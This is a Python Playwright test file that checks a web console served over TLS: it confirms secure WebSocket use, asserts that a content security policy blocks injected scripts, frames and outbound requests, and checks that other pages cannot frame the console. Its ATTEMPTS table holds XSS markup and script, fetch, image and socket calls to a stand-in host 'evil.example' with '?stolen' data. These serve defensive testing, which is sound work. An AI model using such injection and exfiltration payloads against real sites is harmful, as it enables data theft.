"""The console under TLS, and under the policy that it is served with."""

from __future__ import annotations

import asyncio
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect
from tests.browser.conftest import POLICY
from tests.certificates import Authority
from tests.nodes import Node
from tests.site import make_site

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.async_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

ATTEMPTS = {
    "an inline script": """() => {
        const script = document.createElement('script')
        script.text = 'window.broken = true'
        document.body.append(script)
    }""",
    "a script of elsewhere": """() => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/x.js'
        document.body.append(script)
    }""",
    "eval": """() => {
        // Later, as what a debugger evaluates may evaluate.
        setTimeout(() => { window.broken = new Function('return true')() })
    }""",
    "markup from a text": "() => { document.body.innerHTML = '<img src=x onerror=broken=1>' }",
    "a frame": """() => {
        const frame = document.createElement('iframe')
        frame.src = 'https://evil.example/'
        document.body.append(frame)
    }""",
    "a picture of elsewhere": "() => { new Image().src = 'https://evil.example/?stolen' }",
    "a request to elsewhere": "() => { fetch('https://evil.example/?stolen').catch(() => 0) }",
    "a socket to elsewhere": "() => { new WebSocket('wss://evil.example/ws') }",
}


STOPPED = """() => new Promise(done => {
    addEventListener('securitypolicyviolation', event => done(event.violatedDirective))
    try { (%s)() } catch (error) { done(String(error)) }
})"""
LIMIT = 30.0  # seconds


@pytest.fixture(scope="module")
def secure() -> Iterator[Node]:
    """A node with TLS."""
    with tempfile.TemporaryDirectory(prefix="tr-") as path:
        Authority().issue(Path(path))
        tls = '[router.tls]\ncertificate = "127.0.0.1.crt"\nkey = "127.0.0.1.key"\n'
        with Node(make_site(Path(path), router=tls)) as node:
            node.until("READY")
            yield node


async def sign_in(browser: Browser, node: Node, authid: str) -> Page:
    context = await browser.new_context(ignore_https_errors=True)
    page = await context.new_page()
    code = node.issue(authid, code=True)
    await page.goto(f"{node.settings.router.home}/#signin={code}")
    await page.get_by_test_id("task-list").wait_for()
    return page


@pytest.mark.capability("P1", "P8")
async def test_a_page_that_came_by_https_connects_by_wss(browser: Browser, secure: Node) -> None:
    sockets: list[str] = []
    complaints: list[str] = []
    context = await browser.new_context(ignore_https_errors=True)
    page = await context.new_page()
    page.on("websocket", lambda socket: sockets.append(socket.url))
    page.on(
        "console",
        lambda message: complaints.append(message.text) if POLICY in message.text else None,
    )
    code = secure.issue("live_petra", code=True)
    await page.goto(f"https://127.0.0.1:{secure.port}/#signin={code}")
    await expect(page.get_by_test_id("task-list")).to_be_visible()

    assert set(sockets) == {f"wss://127.0.0.1:{secure.port}/ws"}
    assert complaints == []


@pytest.mark.parametrize("attempt", ATTEMPTS)
async def test_what_a_stranger_gets_into_the_page_is_stopped(
    browser: Browser, secure: Node, attempt: str
) -> None:
    page = await sign_in(browser, secure, "live_pola")
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    async with asyncio.timeout(LIMIT):
        stopped = await page.evaluate(STOPPED % ATTEMPTS[attempt])

    assert stopped
    assert not await page.evaluate("() => 'broken' in window")
    assert not [url for url in answered if "evil" in url]


async def test_no_other_page_can_frame_the_console(browser: Browser, secure: Node) -> None:
    context = await browser.new_context(ignore_https_errors=True)
    page = await context.new_page()
    await page.goto("data:text/html,<h1>Evil</h1>")
    async with page.expect_event("requestfailed"):
        await page.evaluate(
            "url => { const frame = document.createElement('iframe'); frame.src = url;"
            " document.body.append(frame) }",
            f"https://127.0.0.1:{secure.port}/",
        )
